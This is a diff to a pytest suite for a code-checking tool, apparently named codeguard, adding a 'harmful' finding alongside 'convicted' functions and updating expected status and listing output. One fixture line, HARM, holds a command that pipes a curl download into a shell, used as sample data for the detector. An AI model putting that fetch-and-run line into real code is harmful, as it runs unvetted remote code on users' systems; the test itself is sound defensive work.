@@ -19,6 +19,7 @@ from codeguard.index.workspace import Stage, Workspace
 pytestmark = pytest.mark.ci
 
 GOOD = 'def add(a, b):\n    """Add two numbers.\n\n    >>> add(2, 3)\n    5\n    """\n    return a + b\n'
+HARM = 'import os\n\nos.system("curl http://127.0.0.1/x | sh")\n'
 WRONG = 'def add(a, b):\n    """Add two numbers."""\n    return a - b\n'
 
 
@@ -28,7 +29,7 @@ def run(*words: str) -> Result:
 
 @pytest.fixture
 def project(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
-    for name, text in {"ours/m.py": GOOD, "theirs/x.py": WRONG, "theirs/y.py": "y = 1\n"}.items():
+    for name, text in {"ours/m.py": GOOD, "theirs/x.py": WRONG, "theirs/y.py": HARM}.items():
         (tmp_path / name).parent.mkdir(exist_ok=True)
         (tmp_path / name).write_text(text)
     monkeypatch.chdir(tmp_path)
@@ -45,11 +46,11 @@ def since() -> dict[str, list[str]]:
 def test_status_says_what_is_there_and_what_has_changed(project: Path) -> None:
     told = run("status").stdout
     assert [line[:11].strip() for line in told.splitlines()] == [
-        "indexed", "from", "trusted", "convicted", "checks", "on disk",
+        "indexed", "from", "trusted", "found", "checks", "on disk",
     ]  # fmt: skip
     assert "3 files, cut into " in told
     assert f"trusted    1 file of {project / 'ours'}" in told
-    assert "convicted  1 function in 1 file: codeguard ls --convicted" in told
+    assert "found      1 harmful, 1 convicted: codeguard ls --convicted" in told
     assert "nothing has changed since" in told
     (project / "theirs/new.py").write_text("z = 1\n")
     assert "1 file new, 0 changed, 0 gone" in run("status").stdout
@@ -67,29 +68,29 @@ def test_status_says_what_is_there_and_what_has_changed(project: Path) -> None:
 )
 def test_status_says_that_a_run_was_ended_early(project: Path, stage: Stage, told: str) -> None:
     with contextlib.closing(Workspace(load_settings())) as workspace:
-        workspace.convicted = None
+        workspace.suspects = None
         workspace.reached(stage)
     said = run("status").stdout
     assert "unfinished the last run was ended early: " in said
     assert told in said
-    assert "convicted  not known: the last run was ended early" in said
+    assert "found      not known yet\n" in said
     facts = json.loads(run("status", "--format", "json").stdout)
-    assert (facts["convicted_known"], bool(facts["unfinished"])) == (False, True)
+    assert (facts["suspects_known"], bool(facts["unfinished"])) == (False, True)
     assert run("index").exit_code == 0
     said = run("status").stdout
     assert "unfinished" not in said
-    assert "convicted  1 function in 1 file" in said
+    assert "found      1 harmful, 1 convicted" in said
 
 
 def test_status_while_an_index_is_made_does_not_say_that_it_was_ended(project: Path) -> None:
     with contextlib.closing(Workspace(load_settings())) as workspace:
-        workspace.convicted = None
+        workspace.suspects = None
         workspace.reached(Stage.CHECKS)
         with workspace.writing() as alone:
             assert alone
             said = run("status").stdout
     assert "unfinished an index is being made: not every function is checked yet" in said
-    assert "convicted  not known yet\n" in said
+    assert "found      not known yet\n" in said
 
 
 def test_status_says_that_the_manifest_is_refused_as_queries_do(project: Path) -> None:
@@ -168,8 +169,9 @@ def test_ls_lists_with_trust_and_convictions(project: Path) -> None:
         "theirs/x.py": False,
         "theirs/y.py": False,
     }
-    assert files["theirs/x.py"]["convicted"] == ["add"]
-    assert run("ls", "--convicted").stdout.splitlines()[1].split()[1:] == ["theirs/x.py", "convicted:", "add"]
+    assert files["theirs/x.py"]["suspects"] == {"convicted": ["add"]}
+    listed = [row.split()[1:] for row in run("ls", "--convicted").stdout.splitlines()[1:]]
+    assert listed == [["theirs/x.py", "convicted:", "add"], ["theirs/y.py", "harmful:", "(module)"]]
     assert run("ls", "./theirs/").stdout.count("theirs/") == 2
     assert "ours/m.py" in run("ls", "--trusted").stdout
 
